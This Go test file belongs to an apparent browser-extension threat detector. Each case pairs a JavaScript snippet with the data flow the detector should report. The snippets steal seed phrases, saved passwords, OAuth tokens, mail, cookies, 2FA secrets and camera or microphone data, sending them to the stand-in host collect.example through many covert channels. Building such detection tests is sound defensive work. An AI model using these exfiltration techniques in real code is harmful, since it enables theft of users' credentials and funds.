package flow

import (
	"strings"
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

// What libraries and services send, ways out of a page that are no requests, and what thieves read besides cookies.
func TestFlowsOfClientsAndReaders(t *testing.T) {
	const page = "https://www.exchange.test/*"
	const seed = `document.querySelector("#ok").onclick = async () => { go(document.querySelector("#mnemonic").value) }; async function go(s) { `
	const send = `const send = x => fetch("https://collect.example/c", {method: "POST", body: JSON.stringify(x)}); `
	for _, c := range []flowCase{
		{"an error service that is not the usual one", behavior.Popup, seed + `Sentry.init({dsn:"https://abcdef@errors.collect.example/456"});Sentry.addBreadcrumb({data:{s}});Sentry.captureException(new Error("x"))`, []string{"seed_input(#mnemonic) > http_client > errors.collect.example"}},
		{"an error service by its usual name", behavior.Popup, seed + `Sentry.captureException(new Error("x"),{extra:{s}})`, []string{"seed_input(#mnemonic) > http_client > sentry.io"}},
		{"statistics to a host of its own", behavior.Popup, seed + `posthog.init("phc_x",{api_host:"https://metrics.collect.example"});posthog.capture("w",{s})`, []string{"seed_input(#mnemonic) > http_client > metrics.collect.example"}},
		{"mails", behavior.Popup, seed + `emailjs.init("u");emailjs.send("service","template",{message:s})`, []string{"seed_input(#mnemonic) > http_client > api.emailjs.com"}},
		{"a database by its name", behavior.Popup, seed + `firebase.initializeApp({databaseURL:"https://x-1.firebaseio.com"});firebase.database().ref("w").push({s})`, []string{"seed_input(#mnemonic) > http_client > x-1.firebaseio.com"}},
		{"a store by its name", behavior.Popup, seed + `firebase.initializeApp({projectId:"x"});firebase.firestore().collection("w").add({s})`, []string{"seed_input(#mnemonic) > http_client > firestore.googleapis.com"}},
		{"a client made by a function", behavior.Popup, seed + `const c=supabase.createClient("https://abc.supabase.co","k");await c.from("w").insert({s})`, []string{"seed_input(#mnemonic) > http_client > abc.supabase.co"}},
		{"a channel of a client", behavior.Popup, seed + `const c=createClient("https://abc.supabase.co","k");c.channel("x").send({type:"broadcast",payload:{s}})`, []string{"seed_input(#mnemonic) > http_client > abc.supabase.co"}},
		{"a queue", behavior.Popup, seed + `const c=mqtt.connect("wss://collect.example/mqtt");c.publish("w",s)`, []string{"seed_input(#mnemonic) > http_client > collect.example"}},
		{"a hub", behavior.Popup, seed + `const c=new signalR.HubConnectionBuilder().withUrl("https://collect.example/hub").build();await c.start();c.invoke("W",s)`, []string{"seed_input(#mnemonic) > http_client > collect.example"}},
		{"queries", behavior.Popup, seed + `const c=new ApolloClient({uri:"https://collect.example/g"});c.mutate({mutation:1,variables:{s}})`, []string{"seed_input(#mnemonic) > http_client > collect.example"}},
		{"a request in steps", behavior.Popup, seed + `superagent.post("https://collect.example/w").send({s}).end()`, []string{"seed_input(#mnemonic) > http_client > collect.example"}},
		{"a node of a chain", behavior.Popup, seed + `const p=new ethers.JsonRpcProvider("https://collect.example/rpc");await p.send("x",[s])`, []string{"seed_input(#mnemonic) > http_client > collect.example"}},
		{"a transport", behavior.Popup, seed + `const t=new WebTransport("https://collect.example/w");await t.ready;const wr=t.datagrams.writable.getWriter();wr.write(new TextEncoder().encode(s))`, []string{"seed_input(#mnemonic) > http_client > collect.example"}},
		{"the protocols of a socket", behavior.Popup, seed + `new WebSocket("wss://collect.example/x",[btoa(s)])`, []string{"seed_input(#mnemonic) > websocket > collect.example"}},
		{"a style", behavior.Popup, seed + `document.querySelector("#go").style.backgroundImage="url(https://collect.example/"+encodeURIComponent(s)+")"`, []string{"seed_input(#mnemonic) > image > collect.example"}},
		{"a style sheet", behavior.Popup, seed + `const st=document.createElement("style");st.textContent="body{background:url(https://collect.example/"+encodeURIComponent(s)+")}";document.head.append(st)`, []string{"seed_input(#mnemonic) > image > collect.example"}},
		{"an attribute with a style", behavior.Popup, seed + `document.querySelector("#go").setAttribute("style","background:url(https://collect.example/"+encodeURIComponent(s)+")")`, []string{"seed_input(#mnemonic) > image > collect.example"}},
		{"a font", behavior.Popup, seed + `new FontFace("x","url(https://collect.example/"+encodeURIComponent(s)+")").load()`, []string{"seed_input(#mnemonic) > image > collect.example"}},
		{"the ping of a link", behavior.Popup, seed + `const a=document.createElement("a");a.ping="https://collect.example/?"+s;a.href="#";a.click()`, []string{"seed_input(#mnemonic) > link > collect.example"}},
		{"a picture in a drawing", behavior.Popup, seed + `const o=document.createElementNS("http://www.w3.org/2000/svg","image");o.setAttribute("href","https://collect.example/?"+s);document.body.append(o)`, []string{"seed_input(#mnemonic) > image > collect.example"}},
		{"a sound", behavior.Popup, seed + `new Audio("https://collect.example/?"+s).play()`, []string{"seed_input(#mnemonic) > image > collect.example"}},
		{"a request for later", behavior.Popup, seed + `fetchLater("https://collect.example/w",{method:"POST",body:s})`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"a cache", behavior.Popup, seed + `(await caches.open("x")).add("https://collect.example/?"+s)`, []string{"seed_input(#mnemonic) > http_client > collect.example"}},
		{"the name of a window", behavior.Popup, seed + `const w=window.open("https://collect.example/",s)`, []string{"seed_input(#mnemonic) > navigation > collect.example"}},
		{"a message to a window", behavior.Popup, seed + `const w=window.open("https://collect.example/");w.postMessage(s,"*")`, []string{"seed_input(#mnemonic) > iframe > collect.example"}},
		{"a message to a frame", behavior.Popup, seed + `const f=document.createElement("iframe");f.src="https://collect.example/f";document.body.append(f);f.onload=()=>f.contentWindow.postMessage({s},"*")`, []string{"seed_input(#mnemonic) > iframe > collect.example"}},
		{"the picture of a notification", behavior.Popup, seed + `chrome.notifications.create({type:"basic",iconUrl:"https://collect.example/?"+s,title:"a",message:"b"})`, []string{"seed_input(#mnemonic) > image > collect.example"}},
		{"the address of a download", behavior.Popup, seed + `chrome.downloads.download({url:"https://collect.example/?"+s})`, []string{"seed_input(#mnemonic) > download", "seed_input(#mnemonic) > link > collect.example"}},
		{"another extension", behavior.Popup, seed + `chrome.runtime.sendMessage("abcdefghijklmnopabcdefghijklmnop",{s})`, []string{"seed_input(#mnemonic) > page_message"}},
		{"a port to another extension", behavior.Popup, seed + `const p=chrome.runtime.connect("abcdefghijklmnopabcdefghijklmnop");p.postMessage({s})`, []string{"seed_input(#mnemonic) > page_message"}},
		{"load of jQuery", behavior.Popup, seed + `$("#x").load("https://collect.example/w",{s})`, []string{"seed_input(#mnemonic) > http_client > collect.example"}},
		{"a password that the browser keeps", behavior.Content, send + `navigator.credentials.get({password:true}).then(c=>send({p:c.password,u:c.id}))`, []string{"password_field(navigator.credentials) > fetch > collect.example"}},
		{"a microphone", behavior.Content, send + `navigator.mediaDevices.getUserMedia({audio:true}).then(s=>{const r=new MediaRecorder(s);r.ondataavailable=e=>fetch("https://collect.example/a",{method:"POST",body:e.data});r.start(1000)})`, []string{"screenshot > fetch > collect.example"}},
		{"a camera on a canvas", behavior.Content, send + `navigator.mediaDevices.getUserMedia({video:true}).then(s=>{const v=document.createElement("video");v.srcObject=s;const k=document.createElement("canvas");setInterval(()=>{k.getContext("2d").drawImage(v,0,0);send(k.toDataURL())},1000)})`, []string{"screenshot > fetch > collect.example"}},
		{"a picture of the page on a canvas", behavior.Content, send + `const i=document.querySelector("img.qr");const k=document.createElement("canvas");k.getContext("2d").drawImage(i,0,0);send(k.toDataURL())`, []string{"page_text(" + page + ") > fetch > collect.example"}},
		{"a file that is read", behavior.Popup, send + `document.getElementById("f").onchange=e=>{const r=new FileReader();r.onload=()=>send(r.result);r.readAsText(e.target.files[0])}`, []string{"form_data(#f) > fetch > collect.example"}},
		{"the text of a file", behavior.Popup, send + `document.getElementById("f").onchange=async e=>send(await e.target.files[0].text())`, []string{"form_data(#f) > fetch > collect.example"}},
		{"the list of downloads", "", send + `chrome.downloads.search({},l=>send(l))`, []string{"history > fetch > collect.example"}},
		{"a token of Google", "", send + `chrome.identity.getAuthToken({interactive:true},t=>send({t}))`, []string{"oauth_token > fetch > collect.example"}},
		{"mails by their interface", "", send + `chrome.identity.getAuthToken({interactive:true},async t=>{const r=await fetch("https://gmail.googleapis.com/gmail/v1/users/me/messages?q=code",{headers:{Authorization:"Bearer "+t}});send(await r.json())})`, []string{"mail(gmail.googleapis.com) > fetch > collect.example"}},
		{"mails of another service", "", send + `fetch("https://graph.microsoft.com/v1.0/me/messages",{headers:{Authorization:"Bearer x"}}).then(r=>r.text()).then(send)`, []string{"mail(graph.microsoft.com) > fetch > collect.example"}},
		{"answers of a site, asked as its user", "", send + `fetch("https://www.binance.com/bapi/accounts/v1/private/account/user/base-detail",{credentials:"include"}).then(r=>r.text()).then(send)`, []string{"site_answers(www.binance.com) > fetch > collect.example"}},
		{"answers of the site of the page", behavior.Content, send + `fetch("/bapi/accounts/v1/private/account/user/base-detail",{credentials:"include"}).then(r=>r.text()).then(send)`, []string{"site_answers(" + page + ") > fetch > collect.example"}},
		{"a database of the page", behavior.Content, send + `const q=indexedDB.open("keyval-store");q.onsuccess=()=>{q.result.transaction("keyval").objectStore("keyval").getAll().onsuccess=e=>send(e.target.result)}`, []string{"storage_token(keyval-store) > fetch > collect.example"}},
		{"what a page has cached", behavior.Content, send + `caches.open("x").then(async c=>{for(const r of await c.keys())send(await (await c.match(r)).text())})`, []string{"storage_token > fetch > collect.example"}},
		{"a text that is tested for the address of a second factor", behavior.Content, send + `const t=something();if(t.startsWith("otpauth://"))send(t)`, []string{"otp_field(otpauth) > fetch > collect.example"}},
		{"an address whose scheme is compared", behavior.Content, send + `const u=new URL(something());if(u.protocol==="otpauth:")send(u.searchParams.get("secret"))`, []string{"otp_field(otpauth) > fetch > collect.example"}},
		{"a picture that is read, tested by a pattern", behavior.Content, send + `new BarcodeDetector({formats:["qr_code"]}).detect(document.querySelector("img")).then(l=>{for(const b of l)if(/^otpauth:/.test(b.rawValue))send(b.rawValue)})`, []string{"otp_field(otpauth) > fetch > collect.example"}},
		{"a picture that a library reads", behavior.Content, send + `const k=document.createElement("canvas").getContext("2d");const q=jsQR(k.getImageData(0,0,9,9).data,9,9);if(q&&q.data.startsWith("otpauth://"))send(q.data)`, []string{"otp_field(otpauth) > fetch > collect.example"}},
		{"a text that a library is asked about", behavior.Popup, send + `const t=something();if(ethers.Mnemonic.isValidMnemonic(t))send(t)`, []string{"seed_input > fetch > collect.example"}},
		{"likewise by another library", behavior.Popup, send + `const t=something();if(bip39.validateMnemonic(t))send(t)`, []string{"seed_input > fetch > collect.example"}},
		{"words that are made", behavior.Popup, send + `const t=bip39.generateMnemonic();send(t)`, []string{"seed_input > fetch > collect.example"}},
		{"what is composed of several keys", behavior.Content, send + `document.addEventListener("compositionend",e=>send(e.data))`, []string{"key_events(compositionend) > fetch > collect.example"}},
		{"the fields of a form that is sent", behavior.Content, send + `document.addEventListener("formdata",e=>send([...e.formData]))`, []string{"form_data(form) > fetch > collect.example"}},
		{"what a page stores", behavior.PageWorld, send + `const o=Storage.prototype.setItem;Storage.prototype.setItem=function(k,v){send({k,v});return o.apply(this,arguments)}`, []string{"storage_token(" + page + ") > fetch > collect.example"}},
		{"what a page parses", behavior.PageWorld, send + `const o=JSON.parse;JSON.parse=function(t){send(t);return o.apply(this,arguments)}`, []string{"page_responses(" + page + ") > fetch > collect.example"}},
		{"cookies that a page sets", behavior.PageWorld, send + `const d=Object.getOwnPropertyDescriptor(Document.prototype,"cookie");Object.defineProperty(document,"cookie",{get(){return d.get.call(document)},set(v){send(v);d.set.call(document,v)}})`, []string{"document.cookie(" + page + ") > fetch > collect.example"}},
		{"changes of the storage", behavior.Content, send + `addEventListener("storage",e=>send(e.newValue))`, []string{"storage_token > fetch > collect.example"}},
		{"keys that a page imports", behavior.PageWorld, send + `const o=crypto.subtle.importKey;crypto.subtle.importKey=function(f,k){send(k);return o.apply(crypto.subtle,arguments)}`, []string{"decrypted(" + page + ") > fetch > collect.example"}},
	} {
		if strings.HasPrefix(c.script, seed) {
			c.script += " }"
		}
		t.Run(c.name, c.run)
	}
}

// What looks like a client or a test, and is none: no flow comes of it.
func TestNoFlowsOfClientsAndReaders(t *testing.T) {
	const seed = `document.querySelector("#ok").onclick = () => go(document.querySelector("#mnemonic").value); function go(s) { `
	for _, c := range []flowCase{
		{"a key that a client signs with", behavior.Popup, seed + `const w = new Web3("https://rpc.example/"); w.eth.accounts.privateKeyToAccount(s) }`, nil},
		{"a request that is described", behavior.Popup, seed + `describe({url: "https://help.example/"}).push(s) }`, nil},
		{"a link beside it", behavior.Popup, seed + `h("a", {href: "https://help.example/"}).push(s) }`, nil},
		{"an error that names nothing of it", behavior.Popup, seed + `try { keep(s) } catch (e) { Sentry.captureException(e) } }`, nil},
		{"a style without an address", behavior.Popup, seed + `document.querySelector("#x").style.background = s.length > 3 ? "red" : "green" }`, nil},
		{"a window without it", behavior.Popup, seed + `open("https://help.example/").postMessage("hello", "*") }`, nil},
		{"a name in a list", behavior.Content, `const names = load(); if (names.indexOf("otpauth") < 0) fetch("https://collect.example/", {body: names})`, nil},
		{"another scheme", behavior.Content, `const u = load(); if (u.startsWith("mailto:")) fetch("https://collect.example/", {body: u})`, nil},
		{"a passkey", behavior.Content, `navigator.credentials.get({publicKey: {}}).then(c => fetch("https://collect.example/", {body: c.id}))`, nil},
		{"a picture of its own on a canvas", behavior.Content, `const i = new Image(), k = document.createElement("canvas"); k.getContext("2d").drawImage(i, 0, 0); fetch("https://collect.example/", {body: k.toDataURL()})`, nil},
		{"answers that everybody gets", "", `fetch("https://api.example/prices").then(r => r.text()).then(t => fetch("https://collect.example/", {body: t}))`, nil},
		{"settings of the mailbox", "", `fetch("https://www.googleapis.com/calendar/v3/list").then(r => r.text()).then(t => fetch("https://collect.example/", {body: t}))`, nil},
		{"a token that goes to Google", "", `chrome.identity.getAuthToken({}, t => fetch("https://www.googleapis.com/drive/v3/files", {headers: {Authorization: "Bearer " + t}}))`, nil},
		{"caches of the extension itself", "", `caches.match("/x").then(r => r.text()).then(t => fetch("https://collect.example/", {body: t}))`, nil},
		{"a key by which a request is signed", "", `chrome.storage.local.get("s", async ({s}) => { const k = await crypto.subtle.importKey("raw", s.privateKey, {}, false, ["sign"]); fetch("https://files.example/", {headers: {a: await crypto.subtle.sign("HMAC", k, new Uint8Array(3))}}) })`, nil},
	} {
		t.Run(c.name, c.run)
	}
}
